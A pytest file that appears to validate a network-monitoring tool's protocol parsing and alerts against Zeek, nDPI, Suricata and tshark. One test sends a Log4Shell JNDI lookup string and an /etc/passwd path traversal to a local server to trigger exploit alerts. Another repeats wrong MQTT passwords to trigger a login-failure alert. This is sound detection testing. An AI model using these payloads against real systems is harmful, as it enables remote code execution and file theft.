"""Application metadata of flows (HTTP, TLS, SSH) against the ground truth of
independent tools on the captures of ../shared/data/pcap/l7: Zeek's http.log,
ssl.log and ssh.log, and the JA3/JA3S/JA4/HASSH values of fingerprints.tsv (an
independent implementation of the published definitions, which agrees with
nDPI's JA3 and Suricata's HASSH; see MANIFEST.md). Every capture is replayed
once, in a session fixture; each test compares one field family and prints its
agreement table."""
import collections

import pyarrow.parquet as pq
import pytest

from conftest import DATA, run_bin
from wire import alerts_of, capture_while

L7 = DATA / "pcap" / "l7"


def captures():
    return sorted(
        p for p in L7.rglob("*")
        if p.suffix in (".pcap", ".pcapng") and p.is_file()
    )


@pytest.fixture(scope="session")
def flows(tmp_path_factory):
    """Flow rows of every capture, by (capture path relative to DATA, src, sport, dst, dport)."""
    out = {}
    root = tmp_path_factory.mktemp("l7")
    for i, cap in enumerate(captures()):
        d = root / str(i)
        r = run_bin("replay", "-w", "1", "--no-progress", "--out", str(d), str(cap))
        assert r.returncode == 0, r.stderr
        files = list((d / "flows").rglob("*.parquet"))
        rel = str(cap.relative_to(DATA))
        for f in files:
            for row in pq.read_table(f).to_pylist():
                out[(rel, row["src_ip"], row["src_port"], row["dst_ip"], row["dst_port"])] = row
    return out


def zeek_log(path):
    """Rows of a Zeek TSV log as dicts ('-' is None, '(empty)' is '')."""
    fields, rows = None, []
    for line in path.read_text().splitlines():
        if line.startswith("#fields"):
            fields = line.split("\t")[1:]
        elif line and not line.startswith("#"):
            vals = [None if v == "-" else ("" if v == "(empty)" else v) for v in line.split("\t")]
            rows.append(dict(zip(fields, vals)))
    return rows


def zeek_rows(name):
    """(capture, row) for every Zeek baseline `name` beside exactly one capture."""
    for log in sorted((L7 / "zeek").glob(f"*/{name}")):
        caps = [p for p in log.parent.iterdir() if p.suffix in (".pcap", ".pcapng")]
        if len(caps) != 1:
            continue
        for row in zeek_log(log):
            yield str(caps[0].relative_to(DATA)), row


def flow_of(flows, cap, row):
    return flows.get((cap, row["id.orig_h"], int(row["id.orig_p"]), row["id.resp_h"], int(row["id.resp_p"])))


def agreement(title, results):
    """Prints the table; returns the disagreements."""
    tally = collections.Counter()
    bad = []
    for field, want, got, where in results:
        ok = want == got
        tally[(field, ok)] += 1
        if not ok:
            bad.append((field, want, got, where))
    print(f"\n{title}")
    for field in sorted({f for f, _ in tally}):
        print(f"  {field:22} {tally[(field, True)]:3} agree, {tally[(field, False)]:3} differ")
    return bad


def test_http_fields_equal_zeeks_http_log(flows):
    results = []
    for cap, z in zeek_rows("http.log"):
        if z["trans_depth"] != "1":
            continue  # the first request of each connection is what a flow keeps
        f = flow_of(flows, cap, z)
        assert f is not None, (cap, z["uid"])
        where = (cap, z["uid"])
        results += [
            ("method", z["method"], f["http_method"], where),
            ("host", z["host"], f["http_host"], where),
            ("uri", z["uri"], f["http_uri"], where),
            ("user_agent", z["user_agent"], f["http_user_agent"], where),
        ]
        # A request without a version is HTTP/0.9 to Zeek, which then reads no
        # status from the server (it logs 0); the servers in these captures did
        # answer with an HTTP/1.x status line, which is what a flow keeps.
        if z["version"] != "0.9":
            want = int(z["status_code"]) if z["status_code"] else None
            results.append(("status_code", want, f["http_status"], where))
    bad = agreement("HTTP vs Zeek http.log (first request per connection)", results)
    assert len(results) >= 40
    assert not bad, bad


def test_tls_sni_and_version_equal_zeeks_ssl_log(flows):
    results = []
    for cap, z in zeek_rows("ssl.log"):
        f = flow_of(flows, cap, z)
        assert f is not None, (cap, z["uid"])
        where = (cap, z["uid"])
        results.append(("server_name", z["server_name"], f["tls_sni"], where))
        results.append(("version", z["version"], f["tls_version"], where))
        assert f["app_protocol"] == "tls", where
    bad = agreement("TLS vs Zeek ssl.log", results)
    assert len(results) >= 10
    assert not bad, bad


def test_ssh_banners_equal_zeeks_ssh_log(flows):
    results = []
    for cap, z in zeek_rows("ssh.log"):
        f = flow_of(flows, cap, z)
        assert f is not None, (cap, z["uid"])
        where = (cap, z["uid"])
        results.append(("client", z["client"], f["ssh_client"], where))
        results.append(("server", z["server"], f["ssh_server"], where))
    bad = agreement("SSH vs Zeek ssh.log", results)
    assert len(results) >= 6
    assert not bad, bad


COLUMN = {"ja3": "tls_ja3", "ja3s": "tls_ja3s", "ja4": "tls_ja4",
          "hassh": "ssh_hassh", "hassh_server": "ssh_hassh_server"}


def test_fingerprints_equal_the_independent_implementation(flows):
    """JA3, JA3S, JA4, HASSH and HASSHServer as fingerprints.tsv computes them
    from the published definitions (its JA3s equal nDPI's, its HASSHs Suricata's)."""
    results = []
    lines = (L7 / "fingerprints.tsv").read_text().splitlines()
    header = next(l for l in lines if l.startswith("capture\t")).split("\t")
    for line in lines:
        if line.startswith("#") or line.startswith("capture\t"):
            continue
        r = dict(zip(header, line.split("\t")))
        if r["kind"] not in COLUMN or r["transport"] != "tcp":
            continue
        cap = r["capture"].removeprefix("pcap/l7/")
        cap = str((L7 / cap).relative_to(DATA))
        # The row names the packet that carried the value: the server's for
        # JA3S and HASSHServer.
        ends = (r["src"], int(r["sport"]), r["dst"], int(r["dport"]))
        if r["kind"] in ("ja3s", "hassh_server"):
            ends = (ends[2], ends[3], ends[0], ends[1])
        f = flows.get((cap, *ends))
        assert f is not None, r
        results.append((r["kind"], r["value"], f[COLUMN[r["kind"]]], (cap, r["frame"])))
    bad = agreement("Fingerprints vs fingerprints.tsv", results)
    assert len(results) >= 50
    assert not bad, bad


def test_certificates_equal_zeeks_x509_log(flows):
    """The server certificate of each TLS connection of Zeek's ssl.log with a
    chain: subject, issuer and validity as Zeek's x509.log has them for the
    first certificate of the chain (RFC 2253 strings, epoch seconds)."""
    results = []
    for cap, z in zeek_rows("ssl.log"):
        fps = z.get("cert_chain_fps") or ""
        x509 = (DATA / cap).parent / "x509.log"
        if not fps or not x509.exists():
            continue
        certs = {r["fingerprint"]: r for r in zeek_log(x509)}
        x = certs[fps.split(",")[0]]
        f = flow_of(flows, cap, z)
        assert f is not None, (cap, z["uid"])
        where = (cap, z["uid"])
        epoch = lambda t: t and int(t.timestamp())  # noqa: E731
        results += [
            ("subject", x["certificate.subject"], f["tls_subject"], where),
            ("issuer", x["certificate.issuer"], f["tls_issuer"], where),
            ("not_before", int(float(x["certificate.not_valid_before"])), epoch(f["tls_not_before"]), where),
            ("not_after", int(float(x["certificate.not_valid_after"])), epoch(f["tls_not_after"]), where),
            ("self_signed", x["certificate.subject"] == x["certificate.issuer"], f["tls_self_signed"], where),
        ]
    bad = agreement("Certificates vs Zeek x509.log", results)
    assert len(results) >= 5
    assert not bad, bad


def ndpi_flows(out_file):
    """(client ip, client port, server ip, server port, the rest of the line)
    of each flow line of an nDPI .out file."""
    import re
    for line in out_file.read_text().splitlines():
        m = re.match(r"\s+\d+\s+TCP (\[?[\w.:]+?\]?):(\d+) <-> (\[?[\w.:]+?\]?):(\d+) (.*)$", line)
        if m:
            yield m.group(1).strip("[]"), int(m.group(2)), m.group(3).strip("[]"), int(m.group(4)), m.group(5)


def test_certificates_and_logins_equal_ndpis(flows):
    """nDPI's certificate fields (subject and issuer in certificate order,
    validity, its Self-signed risk) and FTP user and failed-login flag, for
    each flow of the nDPI captures that has them."""
    import re
    results = []
    for out_file in sorted((L7 / "ndpi").glob("*/*.out")):
        cap = str(out_file.with_suffix("").relative_to(DATA))
        for a, ap, b, bp, rest in ndpi_flows(out_file):
            f = flows.get((cap, a, ap, b, bp))
            where = (cap, a, ap)
            fields = dict(re.findall(r"\[(Issuer|Subject|Validity|User): ([^\]]*)\]", rest))
            if "Subject" in fields:
                assert f is not None, where
                # nDPI writes RDNs in certificate order; the flows, as RFC 4514 does, last first.
                rfc = lambda v: ",".join(reversed(v.split(", ")))  # noqa: E731
                results += [
                    ("subject", rfc(fields["Subject"]), f["tls_subject"], where),
                    ("issuer", rfc(fields["Issuer"]), f["tls_issuer"], where),
                    ("validity", fields["Validity"],
                     f"{f['tls_not_before']:%Y-%m-%d %H:%M:%S} - {f['tls_not_after']:%Y-%m-%d %H:%M:%S}", where),
                    ("self_signed", "Self-signed Cert" in rest, f["tls_self_signed"], where),
                ]
            if "User" in fields:
                assert f is not None, where
                results += [
                    ("login_user", fields["User"], f["login_user"], where),
                    ("login_failed", "[Auth Failed]" in rest, (f["login_failures"] or 0) > 0, where),
                ]
    bad = agreement("Certificates and logins vs nDPI", results)
    assert len(results) >= 14
    assert not bad, bad


def test_ftp_logins_equal_zeeks_ftp_log(flows):
    """Per FTP connection of Zeek's ftp.log: the user name; where Zeek logged
    the PASS commands (with their reply: 230 accepted, 530 refused), the
    attempts and failures. The password Zeek logs is in no column."""
    per_conn = {}
    for cap, z in zeek_rows("ftp.log"):
        key = (cap, z["id.orig_h"], int(z["id.orig_p"]), z["id.resp_h"], int(z["id.resp_p"]))
        c = per_conn.setdefault(key, {"user": None, "password": None, "pass": []})
        c["user"], c["password"] = z["user"], z["password"]
        if z["command"] == "PASS":
            c["pass"].append(z["reply_code"])
    results = []
    for key, c in per_conn.items():
        f = flows.get(key)
        assert f is not None, key
        results.append(("user", c["user"], f["login_user"], key))
        if c["pass"]:
            results.append(("attempts", len(c["pass"]), f["login_attempts"], key))
            failures = sum(code in ("530", "430") for code in c["pass"])
            results.append(("failures", failures, f["login_failures"], key))
        if c["password"]:
            assert all(c["password"] not in str(v) for v in f.values()), key
    bad = agreement("FTP logins vs Zeek ftp.log", results)
    assert len(results) >= 4
    assert not bad, bad


def test_telnet_login_equals_ndpis(tmp_path):
    """nDPI's Telnet capture (an OpenBSD login(1) session): the protocol, the
    user name nDPI reports, and the one attempt, accepted ("Last login"). The
    password typed is in no column."""
    import re
    cap = DATA / "pcap" / "ndpi" / "telnet.pcap"
    ndpi = list(ndpi_flows(cap.with_name("telnet.pcap.out")))
    assert len(ndpi) == 1
    a, ap, b, bp, rest = ndpi[0]
    r = run_bin("replay", "--no-progress", "--out", str(tmp_path), str(cap))
    assert r.returncode == 0, r.stderr
    rows = [row for f in (tmp_path / "flows").rglob("*.parquet") for row in pq.read_table(f).to_pylist()]
    f = next(row for row in rows if (row["src_ip"], row["src_port"], row["dst_ip"], row["dst_port"]) == (a, ap, b, bp))
    assert "[proto: 77/Telnet]" in rest
    results = [
        ("protocol", "telnet", f["app_protocol"], cap.name),
        ("login_user", re.search(r"\[Username: ([^\]]*)\]", rest).group(1), f["login_user"], cap.name),
        ("attempts", 1, f["login_attempts"], cap.name),
        ("failures", 0, f["login_failures"], cap.name),
    ]
    bad = agreement("Telnet login vs nDPI", results)
    assert not bad, bad
    assert all("user" != v for row in rows for v in row.values() if isinstance(v, str))


def test_protocols_are_recognised_by_content_not_port(flows):
    """nDPI's HTTP on the SIP port, Zeek's HTTP on a non-standard port, TLS to
    port 3001: recognised by what they carry."""
    by_cap = collections.defaultdict(set)
    for (cap, *_), row in flows.items():
        by_cap[cap].add(row["app_protocol"])
    want = {
        "pcap/l7/ndpi/http_on_sip_port/http_on_sip_port.pcap": "http",
        "pcap/l7/zeek/http-lower-case-nonstandard-port/http-lower-case-nonstandard-port.pcap": "http",
        "pcap/l7/ndpi/selfsigned/selfsigned.pcap": "tls",
        "pcap/l7/ndpi/ftp_failed/ftp_failed.pcap": "ftp",
        "pcap/l7/zeek/smtp/smtp.pcap": "smtp",
        "pcap/l7/suricata-verify/mqtt311-sub-userpass/input.pcap": "mqtt",
    }
    for cap, proto in want.items():
        assert proto in by_cap[cap], (cap, by_cap[cap])


def suricata_checks(case):
    """The `mqtt.*: value` lines of a suricata-verify test.yaml (each key is
    asserted once per test), as one dict; integers as integers."""
    import re
    out = {}
    for line in (L7 / "suricata-verify" / case / "test.yaml").read_text().splitlines():
        m = re.match(r"\s+(mqtt\.[\w.]+):\s+(\S.*)$", line)
        if m:
            v = m.group(2).strip()
            out[m.group(1)] = int(v) if v.isdigit() else v
    return [out]


def test_mqtt_records_equal_suricata_verify(flows):
    """CONNECT (protocol version, client id, user name), CONNACK return code and
    the first PUBLISH (topic, QoS) as suricata-verify expects them."""
    fields = {
        "mqtt.connect.protocol_version": "mqtt_version",
        "mqtt.connect.client_id": "mqtt_client_id",
        "mqtt.connect.username": "mqtt_username",
        "mqtt.connack.return_code": "mqtt_connack",
        "mqtt.publish.topic": "mqtt_topic",
        "mqtt.publish.qos": "mqtt_qos",
    }
    results = []
    for case in ("mqtt311-sub-userpass", "mqtt5-pub-qos2", "mqtt5-sub-mosquittoprops"):
        cap = str((L7 / "suricata-verify" / case / "input.pcap").relative_to(DATA))
        rows = [r for (c, *_), r in flows.items() if c == cap and r["dst_port"] == 1883]
        assert len(rows) == 1, (case, len(rows))
        f = rows[0]
        assert f["app_protocol"] == "mqtt" and f["app_anomalies"] == 0, f
        for m in suricata_checks(case):
            for key, col in fields.items():
                if key in m:
                    results.append((key, m[key], f[col], case))
        # The password is never kept.
        assert "pass" not in {str(v) for v in f.values()}, f
    bad = agreement("MQTT vs suricata-verify", results)
    assert len(results) >= 12
    assert not bad, bad


def test_exploit_strings_and_executables_over_http_raise_alerts(tmp_path):
    """curl against a local HTTP server: a Log4Shell lookup in the User-Agent, a
    traversal in the URI, and an executable fetched from the server by its
    address. The replayed capture raises http_exploit_attempt and
    executable_from_numeric_host for the client."""
    import subprocess
    import sys
    from conftest import wait_until
    from livejob import free_port, need
    port = free_port()
    www = tmp_path / "www"
    www.mkdir()
    (www / "index.html").write_text("hello")
    (www / "update.exe").write_bytes(b"MZ" + bytes(4000))
    server = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
                               "--directory", str(www)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    curl = need("curl")
    try:
        wait_until(lambda: subprocess.run([curl, "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}/"]).returncode == 0,
                   10, "the HTTP server to answer")

        def traffic():
            base = f"http://127.0.0.1:{port}"
            subprocess.run([curl, "-s", "-o", "/dev/null", "-A", "${jndi:ldap://198.51.100.7:1389/a}", base + "/"], check=True)
            subprocess.run([curl, "-s", "-o", "/dev/null", "--path-as-is", base + "/../../../etc/passwd"], check=True)
            subprocess.run([curl, "-s", "-o", "/dev/null", base + "/update.exe"], check=True)
        pcap = capture_while(tmp_path, f"tcp port {port}", traffic)
    finally:
        server.terminate()
        server.wait(timeout=10)
    alerts = alerts_of(tmp_path, pcap)
    rules = {(rule, entity) for rule, entity, _ in alerts}
    assert ("http_exploit_attempt", "127.0.0.1") in rules, alerts
    assert ("executable_from_numeric_host", "127.0.0.1") in rules, alerts
    summary = next(s for r, _, s in alerts if r == "http_exploit_attempt")
    assert "2 HTTP request(s)" in summary, summary


def test_refused_mqtt_logins_on_the_wire_raise_an_alert(tmp_path):
    """mosquitto with a password file; mosquitto_pub with a wrong password, four
    times: the replayed capture raises mqtt_auth_failures for the client, and
    the flows name each refusal (CONNACK 5: not authorised)."""
    import getpass
    import subprocess
    from livejob import free_port, need
    passwd = tmp_path / "passwd"
    subprocess.run([need("mosquitto_passwd"), "-b", "-c", str(passwd), "sensor", "right-pass"],
                   check=True, capture_output=True, timeout=30)
    port = free_port()
    conf = tmp_path / "m.conf"
    conf.write_text(f"user {getpass.getuser()}\nlistener {port} 127.0.0.1\nallow_anonymous false\n"
                    f"password_file {passwd}\n")
    broker = subprocess.Popen([need("mosquitto"), "-c", str(conf)], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    pub = [need("mosquitto_pub"), "-h", "127.0.0.1", "-p", str(port), "-t", "s/1", "-m", "1"]
    try:
        from conftest import wait_until
        wait_until(lambda: subprocess.run(pub + ["-u", "sensor", "-P", "right-pass"],
                                          capture_output=True).returncode == 0,
                   15, "the broker to start", interval=0.2)

        def traffic():
            for _ in range(4):
                r = subprocess.run(pub + ["-u", "sensor", "-P", "guess"], capture_output=True)
                assert r.returncode != 0
        pcap = capture_while(tmp_path, f"tcp port {port}", traffic)
    finally:
        broker.terminate()
        broker.wait(timeout=10)
    alerts = alerts_of(tmp_path, pcap)
    assert any(r == "mqtt_auth_failures" and e == "127.0.0.1" for r, e, _ in alerts), alerts
    # The four refusals are logins refused on the wire, as FTP's are.
    import duckdb
    feats = [str(f) for f in (tmp_path / "out" / "features").rglob("*.parquet")]
    most = duckdb.sql(f"select max(mqtt_auth_failures_out), max(app_login_failures_out), "
                      f"max(app_login_failures_out_10m) from read_parquet({feats}) "
                      f"where entity = '127.0.0.1'").fetchall()[0]
    assert most == (4, 4, 4), most


def test_application_detections_stay_quiet_on_the_l7_captures(flows):
    """The application captures (benign protocol traffic from Zeek, Suricata and
    nDPI test suites) raise none of the application detections."""
    import duckdb
    import tempfile
    noisy = []
    for cap in captures():
        with tempfile.TemporaryDirectory() as d:
            run_bin("replay", "-w", "1", "--no-progress", "--out", d, str(cap))
            files = [str(f) for f in (__import__("pathlib").Path(d) / "alerts").rglob("*.parquet")]
            if files:
                rules = duckdb.sql(f"select distinct rule from read_parquet({files})").fetchall()
                noisy += [(cap.name, r[0]) for r in rules if r[0] in QUIET_ON_L7]
    assert not noisy, noisy


# The wire-read detections that none of the l7 captures should raise. Not
# tls_c2_traits: nDPI's selfsigned.pcap is a self-signed server on port 3001.
QUIET_ON_L7 = ("http_exploit_attempt", "executable_from_numeric_host", "mqtt_auth_failures",
               "cleartext_login_bruteforce", "udp_reflection", "icmp_tunnel", "dns_null_queries")


def test_a_self_signed_server_on_an_odd_port_has_c2_traits(tmp_path):
    """nDPI's selfsigned.pcap (its risks: self-signed certificate, known
    protocol on a non-standard port): tls_c2_traits, low, for the client; the
    TLS captures with certificates from public authorities raise none."""
    alerts = alerts_of(tmp_path / "a", L7 / "ndpi" / "selfsigned" / "selfsigned.pcap")
    assert [(r, e) for r, e, _ in alerts if r == "tls_c2_traits"] == [("tls_c2_traits", "127.0.0.1")], alerts
    for cap in (L7 / "zeek" / "tls-ecdsa-cert" / "ecdsa-cert.pcap",
                L7 / "ndpi" / "ssl-cert-name-mismatch" / "ssl-cert-name-mismatch.pcap"):
        assert not [a for a in alerts_of(tmp_path / cap.stem, cap) if a[0] == "tls_c2_traits"], cap


# (Zeek's methods.pcap is left out: it is a set of malformed request lines,
# which tshark and Zeek read differently; the Zeek comparison above covers it.)
APP_FEATURE_CAPTURES = [
    "pcap/l7/zeek/wikipedia/wikipedia.pcap",
    "pcap/l7/zeek/http-pipelining/pipelined-requests.pcap",
    "pcap/l7/ndpi/http_on_sip_port/http_on_sip_port.pcap",
    "pcap/l7/zeek/http-lower-case-nonstandard-port/http-lower-case-nonstandard-port.pcap",
    "pcap/l7/ndpi/selfsigned/selfsigned.pcap",
    "pcap/l7/suricata-verify/bug-2646-01/input.pcap",
    "pcap/l7/zeek/tls-conn-with-extensions/tls-conn-with-extensions.pcap",
    "pcap/l7/ndpi/ssl-cert-name-mismatch/ssl-cert-name-mismatch.pcap",
    "pcap/l7/ndpi/smtp-starttls/smtp-starttls.pcap",
]


@pytest.mark.parametrize("case", APP_FEATURE_CAPTURES)
def test_application_features_equal_tsharks_requests_and_hellos(case, tmp_path):
    """http_requests_out, http_numeric_host_out and tls_client_hellos_out per
    host and window, recomputed from tshark's own HTTP and TLS dissectors: the
    first request and the first ClientHello of each TCP stream, counted for
    the host that sent it in the two windows that hold its frame."""
    import ipaddress
    import subprocess
    import duckdb
    cap = DATA / case
    # tshark finds protocols by port: tell it what the pipeline finds by content.
    decode_as = {"http_on_sip_port.pcap": ["-d", "tcp.port==8888,http"],
                 "http-lower-case-nonstandard-port.pcap": ["-d", "tcp.port==1234,http"],
                 "selfsigned.pcap": ["-d", "tcp.port==3001,tls"]}.get(cap.name, [])
    r = subprocess.run(["tshark", "-r", str(cap), *decode_as, "-Y", "http.request || tls.handshake.type == 1",
                        "-T", "fields", "-E", "occurrence=f", "-e", "frame.time_epoch", "-e", "ip.src",
                        "-e", "ipv6.src", "-e", "tcp.stream", "-e", "http.request", "-e", "http.host"],
                       capture_output=True, text=True, check=True)
    want = collections.Counter()
    seen = set()
    for line in r.stdout.splitlines():
        t, v4, v6, stream, is_http, host = (line.split("\t") + [""] * 6)[:6]
        kind = "http" if is_http else "tls"
        if (stream, kind) in seen:
            continue
        seen.add((stream, kind))
        src, pane = v4 or v6, int(float(t)) // 30
        numeric = False
        if kind == "http":
            h = host.rsplit(":", 1)[0] if host.count(":") == 1 else host.strip("[]")
            try:
                ipaddress.ip_address(h)
                numeric = True
            except ValueError:
                pass
        for w in (pane - 1, pane):
            want[(src, w * 30, "http_requests_out" if kind == "http" else "tls_client_hellos_out")] += 1
            want[(src, w * 30, "http_numeric_host_out")] += int(numeric)
    out = tmp_path / "out"
    assert run_bin("replay", "--no-progress", "--out", str(out), str(cap)).returncode == 0
    files = [str(f) for f in (out / "features").rglob("*.parquet")]
    got = collections.Counter()
    cols = ("http_requests_out", "tls_client_hellos_out", "http_numeric_host_out")
    for row in duckdb.sql(f"select entity, epoch(window_start)::bigint, {', '.join(cols)} "
                          f"from read_parquet({files})").fetchall():
        for name, v in zip(cols, row[2:]):
            if v:
                got[(row[0], row[1], name)] = v
    want = +want
    assert want, "the capture has requests or hellos"
    assert got == want, (sorted(set(got.items()) ^ set(want.items()))[:10])
